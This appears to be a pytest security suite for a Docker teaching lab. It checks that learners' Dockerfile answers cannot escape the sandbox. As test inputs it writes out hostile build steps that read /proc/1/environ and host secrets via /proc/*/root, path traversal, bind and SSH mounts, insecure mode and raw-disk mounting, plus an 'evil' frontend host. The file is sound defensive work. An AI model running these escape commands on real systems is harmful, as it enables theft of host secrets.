"""What an answer may use, and what it never gets.

Tests of docs/threats.md: an answer wants more than it gets.
"""

import uuid

import psutil
import pytest

from dockerlab import checks
from dockerlab.base.errors import LabError
from dockerlab.checks import bench as bench_module
from dockerlab.checks import core, limits
from dockerlab.checks.bench import Bench
from dockerlab.lab import Lab

pytestmark = [
    pytest.mark.engine,
    pytest.mark.counted("checks of safety: what must be refused, is"),
]


@pytest.fixture
def bench():
    lab = Lab("testsecurity")
    bench = Bench("testsecurity", lab.client)
    yield bench
    bench.close()
    lab.close()


STEAL = "cat SECRET /proc/1/root/SECRET /proc/1/environ > /stolen 2>&1"


@pytest.fixture
def secret(tmp_path):
    """A file of the learner, at a path that the box shares."""
    path = tmp_path / "secret"
    path.write_text(f"secret-{uuid.uuid4()}")
    path.chmod(0o600)
    return path


READS = {
    "by its path": f"RUN {STEAL}; true",
    "as root of the machine": "RUN ls / /proc/*/root/tmp > /stolen 2>&1; "
    "cat /proc/*/root/SECRET >> /stolen 2>&1; true",
    "from outside the context": "COPY ../../../../SECRET /stolen",
    "by an address": "ADD file:///SECRET /stolen",
    "by a bind mount": "RUN --mount=type=bind,source=/SECRET,target=/m"
    " cat /m > /stolen",
    "by a bind mount of an image": "RUN --mount=type=bind,from=debian:"
    "trixie-slim,source=/,target=/m cat /m/SECRET > /stolen 2>&1; true",
    "by a secret": "RUN --mount=type=secret,id=x,target=/m"
    " cat /m SECRET > /stolen 2>&1; true",
    "by the agent": f"RUN --mount=type=ssh env > /stolen; {STEAL}; true",
    "with all rights": f"RUN --security=insecure {STEAL}; true",
    "by the machine's network": "RUN --network=host cat /proc/net/unix"
    " > /stolen",
    "by mounting a disk": "RUN (mknod /disk b 8 0 && mkdir /d && "
    "mount /disk /d && cat /d/SECRET) > /stolen 2>&1; true",
}


@pytest.mark.parametrize("way", READS)
def test_a_build_reads_nothing_of_the_host(way, bench, secret):
    steal = READS[way].replace("SECRET", str(secret).lstrip("/"))
    text = f"FROM debian:trixie-slim\n{steal}\nCMD cat /stolen\n"
    built = bench.try_build(text)
    assert secret.read_text() not in built.hint
    if built.ok:
        container = bench.run(built.tag)
        assert bench.wait(container) is not None
        assert secret.read_text() not in container.logs().decode()
    assert secret.exists()


def test_a_build_has_no_power_over_the_box(bench):
    """Neither more capabilities than Docker's usual ones, nor the host's
    network."""
    text = (
        "FROM debian:trixie-slim\n"
        "RUN grep CapEff /proc/self/status > /power && ls /dev >> /power\n"
        "CMD cat /power\n"
    )
    built = bench.try_build(text)
    assert built.ok, built.hint
    container = bench.run(built.tag)
    bench.wait(container)
    caps, *devices = container.logs().decode().splitlines()
    admin = 1 << 21  # CAP_SYS_ADMIN, capability.h
    assert int(caps.split()[1], 16) & admin == 0
    assert not {"kvm", "mem", "sda", "vda"} & set(devices)


@pytest.mark.parametrize("network", ["RUN --network=host", "RUN"])
def test_a_build_does_not_see_the_machines_network(network, bench):
    text = (
        "FROM python:3.13-slim\n"
        f"{network} python -c 'import socket;"
        " print(*(n for _, n in socket.if_nameindex()))' > /links\n"
        "CMD cat /links\n"
    )
    built = bench.try_build(text)
    if built.ok:
        container = bench.run(built.tag)
        bench.wait(container)
        links = set(container.logs().decode().split())
        assert not links & (set(psutil.net_if_addrs()) - {"lo", "eth0"})


def test_a_foreign_frontend_is_no_way_in(bench):
    """`# syntax=` runs an image as the builder's frontend: in a container,
    and where it cannot be pulled nothing is built."""
    text = (
        "# syntax=dockerlab-nowhere.example/evil:1\n"
        "FROM debian:trixie-slim\nRUN true\n"
    )
    with pytest.raises(LabError, match="evil:1"):
        bench.try_build(text)


@pytest.mark.parametrize(
    "id",
    [
        pytest.param(id, marks=pytest.mark.lesson(core.slug_of(id)))
        for id in (
            "flask_app/speaks",
            "build_cache/order",
            "networks/port",
            "flask_app/no-tests",
        )
    ],
)
def test_the_checks_of_notebooks_give_nothing_away(id, secret, lab_client):
    """A malicious answer to a real exercise."""
    secret_path = str(secret).lstrip("/")
    steal = STEAL.replace("SECRET", secret_path)
    text = (
        "FROM python:3.13-slim\n"
        f"RUN {steal}; cat /stolen\n"
        "COPY . /context\n"
        f"RUN rm -rf /{secret_path} /proc/1/root/{secret_path}; true\n"
        f'CMD ["sh", "-c", "{steal}; cat /stolen"]\n'
    )
    report = checks.check(id, text)
    assert not report.passed
    assert secret.read_text() not in repr(report) + report._repr_html_()
    assert secret.exists()


def test_what_an_answer_runs_is_limited(bench):
    container = bench.run("debian:trixie-slim", command=["sleep", "5"])
    container.reload()
    settings = container.attrs["HostConfig"]
    assert 0 < settings["Memory"] <= 512e6
    assert 0 < settings["NanoCpus"] <= 2e9
    assert 0 < settings["PidsLimit"] <= 512
    assert not settings["Privileged"]
    assert not settings["Binds"]
    assert not settings["CapAdd"]
    assert settings["NetworkMode"] in ("default", "bridge")
    assert settings["PidMode"] == ""
    named = {limit.partition("=")[0] for limit in limits.BUILD}
    assert named >= {"data", "cpu"}
    assert bench_module.BUILD_SECONDS <= 120


@pytest.mark.parametrize(
    "options",
    [
        {"privileged": True},
        {"network_mode": "host"},
        {"network_mode": "container:other"},
        {"pid_mode": "host"},
        {"cap_add": ["SYS_ADMIN"]},
        {"devices": ["/dev/null:/dev/x"]},
        {"volumes": ["/etc:/host"]},
        {"volumes": {"/etc": {"bind": "/host", "mode": "ro"}}},
        {"security_opt": ["seccomp=unconfined"]},
    ],
    ids=str,
)
def test_a_bench_refuses_powers(bench, options):
    with pytest.raises(ValueError, match="check"):
        bench.run("debian:trixie-slim", command=["true"], **options)


def test_a_bench_refuses_a_volume_that_is_a_folder_of_the_host(bench):
    """A named volume may stand for any folder."""
    device = {"type": "none", "o": "bind", "device": "/etc"}
    name = f"testsecurity-{bench.token}"
    volume = bench.client.volumes.create(name, driver_opts=device)
    try:
        with pytest.raises(ValueError, match="check"):
            bench.run(
                "debian:trixie-slim",
                command=["true"],
                volumes={name: {"bind": "/x", "mode": "ro"}},
            )
    finally:
        volume.remove()
